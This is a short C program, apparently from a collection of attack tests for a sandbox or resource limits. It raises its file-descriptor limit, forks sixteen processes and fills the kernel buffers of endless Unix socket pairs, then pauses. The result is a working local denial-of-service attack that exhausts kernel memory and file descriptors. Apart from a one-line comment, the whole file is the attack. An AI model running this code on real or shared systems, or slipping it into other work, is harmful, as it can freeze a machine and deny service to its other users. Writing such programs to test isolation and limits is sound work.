// Fills the buffers of socket pairs.
#include "attack.h"
#include <fcntl.h>
#include <sys/resource.h>
#include <sys/socket.h>
int main(void) {
  static char block[65536];
  struct rlimit files;
  getrlimit(RLIMIT_NOFILE, &files);
  files.rlim_cur = files.rlim_max;
  setrlimit(RLIMIT_NOFILE, &files);
  for (int processes = 0; processes < 16; ++processes) {
    if (fork() != 0) continue;
    int ends[2];
    while (socketpair(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK, 0, ends) == 0) {
      while (write(ends[1], block, sizeof(block)) > 0) {
      }
      while (write(ends[0], block, sizeof(block)) > 0) {
      }
    }
    pause();
  }
  pause();
}
